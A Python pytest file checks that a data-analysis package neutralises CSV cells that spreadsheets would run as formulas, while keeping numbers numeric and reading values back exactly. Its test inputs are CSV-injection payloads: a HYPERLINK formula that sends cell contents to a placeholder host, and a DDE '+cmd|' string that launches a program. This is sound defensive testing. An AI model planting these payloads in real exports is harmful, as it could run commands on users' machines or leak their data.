"""CSV cells a spreadsheet would run as formulas are neutralised, reversibly; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import analysis as an
from analysis.csv_cells import (
    FORMULA_TRIGGERS,
    csv_text,
    neutralise,
    neutralise_row,
    restore,
    write_csv,
    write_csv_rows,
)

ATTACKS = (
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",  # already quoted once: must survive a round trip unchanged
)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf")


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, as a spreadsheet would split it."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula."""
    return cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)


@pytest.mark.slow
@given(st.text())
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    assert not dangerous(neutralise(text))


@pytest.mark.parametrize("number", ["-1", "-1.5", "+3", "-2e-3", ".5", "-0", "12"])
def test_numbers_written_as_text_stay_numbers(number: str) -> None:
    assert neutralise(number) == number
    assert restore(number) == number


def test_numbers_in_numeric_columns_are_written_as_numbers() -> None:
    frame = pd.DataFrame({"team": ["=1+1", "Ward 7"], "ei": [-0.5, 0.25], "n": [-3, 4]})
    read = pd.read_csv(io.StringIO(csv_text(frame)))
    assert read["ei"].tolist() == [-0.5, 0.25]
    assert read["n"].tolist() == [-3, 4]
    assert read["team"].tolist() == ["'=1+1", "Ward 7"]


def test_rows_for_csv_writer() -> None:
    assert neutralise_row(["=1+1", -2, "-2", "x"]) == ["'=1+1", -2, "-2", "x"]


def test_write_csv_neutralises_every_attack(tmp_path: Path) -> None:
    path = write_csv(pd.DataFrame({"text": ATTACKS}), tmp_path / "t.csv")
    written = cells(path.read_bytes().decode("utf-8"))[1:]
    assert [cell for cell in written if dangerous(cell)] == []
    assert written == ["'" + attack for attack in ATTACKS]


@pytest.mark.parametrize("breaker", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_cell_cannot_start_a_row(tmp_path: Path, breaker: str) -> None:
    """``ok<CR>=cmd...`` must stay one cell: unquoted, a spreadsheet starts a row at the CR."""
    text = f"ok{breaker}=cmd|' /C calc'!A0"
    path = write_csv(pd.DataFrame({"text": [text], "n": [1]}), tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert rows == [["text", "n"], [text, "1"]]
    rows_file = write_csv_rows(tmp_path / "rows.csv", ["text"], [[text]])
    assert list(csv.reader(io.StringIO(rows_file.read_bytes().decode("utf-8"), newline=""))) == [
        ["text"],
        [text],
    ]


def _hostile_bundle() -> an.Bundle:
    bundle = an.simulate_study(teams=2, members=4, waves=2, seed=3).bundle
    first, second = bundle.teams
    renames = {first: "=1+1", second: "@SUM(A1)"}
    for frame in (bundle.responses, bundle.ties, bundle.roster, bundle.interventions):
        frame["team"] = frame["team"].map(lambda team: renames.get(team, team))
    bundle.roster["organisation"] = "+cmd|' /C calc'!A0"
    bundle.responses["organisation"] = "+cmd|' /C calc'!A0"
    bundle.roster["profession"] = bundle.roster["profession"].map(lambda p: f"-{p}")
    bundle.responses["profession"] = bundle.responses["profession"].map(lambda p: f"-{p}")
    respondent = bundle.roster.loc[bundle.roster["responded"].astype(bool)].iloc[0]
    comments = pd.DataFrame(
        {
            "wave": [int(respondent["wave"])],
            "team": [respondent["team"]],
            "respondent": [respondent["respondent"]],
            "item": ["helped"],
            "text": ['=HYPERLINK("http://x/?"&A1,"Click")'],
        }
    )
    return dataclasses.replace(bundle, comments=comments)


@pytest.mark.parametrize("where", ["folder", "bundle.zip"])
def test_a_bundle_is_neutralised_on_disk_and_reads_back_exactly(tmp_path: Path, where: str) -> None:
    bundle = _hostile_bundle()
    path = an.write_bundle(bundle, tmp_path / where)
    texts = (
        {p.name: p.read_bytes().decode("utf-8") for p in path.glob("*.csv")}
        if path.is_dir()
        else _zip_texts(path)
    )
    assert set(texts) >= {"responses.csv", "roster.csv", "ties.csv", "comments.csv"}
    for name, text in texts.items():
        assert [cell for cell in cells(text) if dangerous(cell)] == [], name
    assert "'=1+1" in texts["roster.csv"] and "'+cmd|" in texts["roster.csv"]
    read = an.read_bundle(path)
    assert sorted(read.teams) == ["=1+1", "@SUM(A1)"]
    assert set(read.roster["organisation"]) == {"+cmd|' /C calc'!A0"}
    assert read.comments["text"].tolist() == ['=HYPERLINK("http://x/?"&A1,"Click")']
    # numbers are read back losslessly
    original = bundle.responses.sort_values(["wave", "respondent", "item"]).reset_index(drop=True)
    again = read.responses.sort_values(["wave", "respondent", "item"]).reset_index(drop=True)
    pd.testing.assert_series_equal(
        original["value"].astype(float), again["value"].astype(float), check_names=False
    )
    assert set(again["profession"]) == set(original["profession"])


def _zip_texts(path: Path) -> dict[str, str]:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.endswith(".csv")
        }


@pytest.mark.parametrize("fmt", ["long-csv", "wide-csv"])
def test_long_and_wide_csv_are_neutralised_and_keep_numbers(tmp_path: Path, fmt: str) -> None:
    bundle = _hostile_bundle()
    path = an.write_export(bundle, fmt, tmp_path / "out.csv")
    text = path.read_bytes().decode("utf-8")
    assert [cell for cell in cells(text) if dangerous(cell)] == []
    assert "'=1+1" in text and "'+cmd|' /C calc'!A0" in text
    table = pd.read_csv(path)
    numeric = table.select_dtypes("number")
    assert "wave" in numeric.columns and len(numeric.columns) > 3


@pytest.mark.slow
def test_analysis_results_tables_are_neutralised(tmp_path: Path) -> None:
    from analysis.pipeline import analyse_bundle, write_results

    bundle = an.simulate_study(teams=3, members=5, waves=3, seed=5).bundle
    renames = {bundle.teams[0]: "=1+1"}
    for frame in (bundle.responses, bundle.ties, bundle.roster, bundle.interventions):
        frame["team"] = frame["team"].map(lambda team: renames.get(team, team))
    out = write_results(analyse_bundle(bundle), tmp_path / "results")
    written = sorted(out.glob("*.csv"))
    assert written
    for path in written:
        text = path.read_bytes().decode("utf-8")
        assert [cell for cell in cells(text) if dangerous(cell)] == [], path.name
    assert "'=1+1" in (out / "scores.csv").read_text(encoding="utf-8")
